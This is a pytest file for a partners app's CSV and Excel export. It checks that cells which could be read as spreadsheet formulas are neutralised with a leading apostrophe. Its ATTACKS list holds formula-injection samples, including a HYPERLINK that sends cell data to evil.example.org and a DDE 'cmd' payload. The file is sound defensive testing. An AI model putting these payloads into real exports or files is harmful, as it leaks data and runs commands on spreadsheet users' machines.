"""No text of an organisation runs as a formula, in no file and not after editing."""

import csv
import io
from datetime import date
from tempfile import TemporaryFile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from partners.renderers.cells import defused, may_be_formula
from partners.renderers.csv_table import write_csv
from partners.renderers.xlsx_table import LONGEST_CELL, Heading, Sheets, write_xlsx

ATTACKS = [
    '=HYPERLINK("https://evil.example.org?"&A1,"Klick")',
    "=1+1",
    "+49 221 4710 1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
]
HARMLESS = ["", "Verein", "a=b", "0221 4710-1", "'=1", "1+1", "Frauen- und Mädchen"]


def read_csv(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(file):
    with file:
        return openpyxl.load_workbook(io.BytesIO(file.read()))


@pytest.fixture
def files(monkeypatch):
    """Collect the files that are opened for workbooks."""
    opened = []

    def open_file():
        opened.append(TemporaryFile())  # noqa: SIM115 -- closed by what is tested
        return opened[-1]

    monkeypatch.setattr("partners.renderers.xlsx_table.TemporaryFile", open_file)
    return opened


def test_file_is_closed_when_the_rows_fail(files):
    def fail():
        yield [["A"]]
        raise LookupError

    with pytest.raises(LookupError):
        write_xlsx([Heading("Name", 10)], fail(), Sheets("A", "B", []))
    assert [file.closed for file in files] == [True]


def workbook(*rows, about=()):
    return write_xlsx([Heading("Name", 10), Heading("B", 10)], [rows], Sheets("Organisationen", "Über", about))


@pytest.mark.parametrize("text", ATTACKS)
def test_what_may_be_a_formula_is_kept_from_running(text):
    assert (may_be_formula(text), defused(text)) == (True, f"'{text}")
    assert read_csv(b"".join(write_csv(["A"], [[[text]]])))[1] == [f"'{text}"]
    cell = read_xlsx(workbook([text, "x"])).active["A2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert defused(text) == text
    assert read_csv(b"".join(write_csv(["A", "B"], [[[text, "x"]]])))[1] == [text, "x"]


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")))
def test_no_cell_of_a_csv_begins_like_a_formula(text):
    (cell,) = next(
        iter(
            csv.reader(io.StringIO(b"".join(write_csv([], [[[text]]])).decode("utf-8-sig"), newline=""), delimiter=";")
        ),
        [""],
    ) or [""]
    assert cell[:1] not in set("=+-@\t\r\n")


def test_csv_is_what_spreadsheets_here_expect():
    content = b"".join(
        write_csv(["Name", "Räume"], [[['Grüße; "ß"', 40]], [["Zeile\nzwei", date(2026, 11, 21)]], [[None, 2.5]]])
    )
    text = 'Name;Räume\r\n"Grüße; ""ß""";40\r\n"Zeile\nzwei";2026-11-21\r\n;2,5\r\n'
    assert content == b"\xef\xbb\xbf" + text.encode()


def test_workbook_has_a_header_that_stays_widths_types_and_a_sheet_about_itself():
    book = read_xlsx(workbook(["Grüße", 40], [None, date(2026, 11, 21)], about=[("Stand", "=heute")]))
    rows, about = book.worksheets
    assert (rows.title, rows.freeze_panes, rows.auto_filter.ref) == ("Organisationen", "B2", "A1:B3")
    assert [[cell.value for cell in row] for row in rows.iter_rows()][0:2] == [["Name", "B"], ["Grüße", 40]]
    assert (rows["B3"].value.date(), rows["B3"].number_format) == (date(2026, 11, 21), "yyyy-mm-dd")
    assert (about.title, about["A1"].value, about["B1"].value, about["B1"].data_type) == (
        "Über",
        "Stand",
        "=heute",
        "s",
    )


def test_text_longer_than_excel_takes_is_cut():
    assert len(read_xlsx(workbook(["x" * 40_000, ""])).active["A2"].value) == LONGEST_CELL
